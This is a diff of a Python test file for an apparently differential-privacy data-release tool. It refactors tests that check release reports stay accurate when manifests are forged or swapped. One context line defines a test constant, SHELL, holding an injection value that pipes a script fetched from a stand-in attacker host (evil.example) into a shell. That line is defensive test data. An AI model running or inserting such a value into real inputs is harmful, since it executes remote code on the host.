@@ -22,6 +22,9 @@ from dpcore.spec import load_spec
 from dpcore.steward.verify import verify_ledger
 from flows.pages.run import release_page
 from tests.conftest import Workspace
+from tests.dpcore.runs.releases import learned
+
+pytestmark = pytest.mark.usefixtures("rough_models")
 
 SHELL = "0; curl -s evil.example | sh"
 
@@ -84,15 +87,14 @@ def soon() -> Iterator[None]:
         signal.signal(signal.SIGALRM, before)
 
 
-def reported(workspace: Workspace, *, swap: Callable[[Path], object], settled: bool) -> tuple[Report, Path]:
+def reported(
+    workspace: Workspace, *, swap: Callable[[Path], object], settled: bool, resume: bool = False
+) -> tuple[Report, Path]:
     """Swap a release before or after its run is settled; return the report, and where the release is on record."""
-    run = Synthesis(load_spec(workspace.spec), run_id="run", resume=False)
+    run = Synthesis(load_spec(workspace.spec), run_id="run", resume=resume)
     try:
-        run.reserve()
-        run.ingest()
-        run.histogram()
-        run.begin()
-        run.update(1, run.measure(1, run.select(1)))
+        learned(run)
+        run.rounds.update(1, run.rounds.measure(1, run.rounds.select(1)))
         run.sample()
         release = run.publish()
         if not settled:
@@ -117,8 +119,9 @@ def paid(workspace: Workspace) -> Workspace:
     return workspace
 
 
-@pytest.mark.parametrize("settled", [False, True], ids=["before it is settled", "after it is settled"])
-@pytest.mark.parametrize("swap", SWAPS)
+@pytest.mark.parametrize(
+    ("swap", "settled"), [(swap, False) for swap in SWAPS] + [("a forged manifest", True), ("a pipe", True)]
+)
 def test_the_report_is_of_what_was_written(paid: Workspace, swap: str, settled: bool) -> None:
     report, release = reported(paid, swap=SWAPS[swap], settled=settled)
     written = manifest_as_written()
@@ -154,17 +157,7 @@ def test_the_lease_is_renewed_after_every_fit_and_the_newest_settles_the_run(
 
 def test_a_release_that_was_recorded_is_reported_from_the_bytes_that_were_compared(paid: Workspace) -> None:
     first, _ = reported(paid, swap=lambda it: None, settled=True)
-    run = Synthesis(load_spec(paid.spec), run_id="run", resume=True)
-    run.reserve()
-    run.ingest()
-    run.histogram()
-    run.begin()
-    run.update(1, run.measure(1, run.select(1)))
-    run.sample()
-    forge(run.publish())
-    run.settle()
-    again = run.report()
-    run.close()
+    again, _ = reported(paid, swap=forge, settled=False, resume=True)
     assert (again.privacy, again.columns, again.files) == (first.privacy, first.columns, first.files)
 
 
@@ -179,7 +172,8 @@ def test_reading_the_manifest_back_would_not_do(paid: Workspace, monkeypatch: py
     monkeypatch.setattr(Publication, "report", read_back)
     monkeypatch.setattr(signal, "setitimer", lambda which, seconds, real=signal.setitimer: real(which, seconds / 40))
     said: dict[str, object] = {}
-    for number, (name, swap) in enumerate(SWAPS.items()):
+    for number, name in enumerate(("a pipe", "a forged manifest", "junk")):
+        swap = SWAPS[name]
         folder = Path(f"project-{number}").absolute()
         shutil.copytree(paid.folder, folder, ignore=shutil.ignore_patterns("project-*"))
         monkeypatch.chdir(folder)
@@ -193,8 +187,5 @@ def test_reading_the_manifest_back_would_not_do(paid: Workspace, monkeypatch: py
     assert said == {
         "a pipe": "TimeoutError",
         "a forged manifest": "forged",
-        "a link": "forged",
         "junk": "JSONDecodeError",
-        "nothing": "FileNotFoundError",
-        "a link to itself": "OSError",
     }
